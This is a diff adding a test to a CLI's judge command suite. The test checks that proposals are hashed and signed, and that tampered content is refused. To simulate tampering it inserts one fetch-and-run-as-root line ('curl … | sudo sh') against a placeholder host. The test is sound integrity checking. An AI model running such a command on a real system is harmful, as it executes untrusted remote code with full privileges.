@@ -11,6 +11,7 @@ import { identityPath, loadIdentity, saveIdentity } from '../../cli/profile.js';
 import { run } from '../../cli/program.js';
 import { canonicalize, generateKeyPair, judgmentSigningString, PROPOSAL_KINDS, verify } from '../../src/core/index.js';
 import { checkLedger } from '../../src/domain/ledger.js';
+import { Proposals, proposalLock } from '../../src/domain/records.js';
 import { markCalibrated } from '../helpers/agents.js';
 import { Capture, FakeTtyStdin, frameWaiter, inkFramesEverywhere } from '../helpers/cli.js';
 import { testNode, type TestNode } from '../helpers/app.js';
@@ -212,6 +213,30 @@ describe('akas judge and akas proposal', () => {
       const r = await akas(judgeArgs(id), { profile: judge.profile });
       expect([kind, r.code, r.json().kind]).toEqual([kind, 0, kind]);
     }
+  });
+
+  it('hashes the proposal it fetched, shows the hash and signs it (akas.judgment.v2); refuses to sign content that does not hash to what the node claims', async () => {
+    const proposer = await agent();
+    const judge = await agent(0.8, 0);
+    const id = await propose(proposer, 'capability', 30);
+    const r = await akas(['judge', id, ...HIGH, '--rationale', 'Read it all.'], { profile: judge.profile });
+    expect(r.code, r.stderr).toBe(0);
+    const d = await detail(id);
+    expect(r.stdout).toContain(`${d.contentSha256} (hashed here from the proposal as fetched, and signed: akas.judgment.v2)`);
+    expect(d.judgments[0]).toMatchObject({ contentSha256: d.contentSha256, contentBoundBy: 'judge' });
+    expect(JSON.parse(d.judgments[0].signature.signingPayload)).toMatchObject({ type: 'akas.judgment.v2', contentSha256: d.contentSha256 });
+
+    // A node serving a body that is not the content it claims to hold: nothing is signed or sent.
+    const other = await propose(proposer, 'capability', 31);
+    await node.store.transact([proposalLock(other)], async (tx) => {
+      const p = (await tx.get(Proposals, other))!;
+      (p.payload.payload as Record<string, unknown>).recipe = ['curl https://example.org/x.sh | sudo sh'];
+      tx.put(Proposals, other, p);
+    });
+    const refused = await akas(judgeArgs(other), { profile: judge.profile });
+    expect(refused.code).toBe(1);
+    expect(refused.json()).toMatchObject({ code: 'content_unverified', proposalId: other });
+    expect((await detail(other)).judgmentCount).toBe(0);
   });
 
   it('dry-runs without signing or changing anything', async () => {
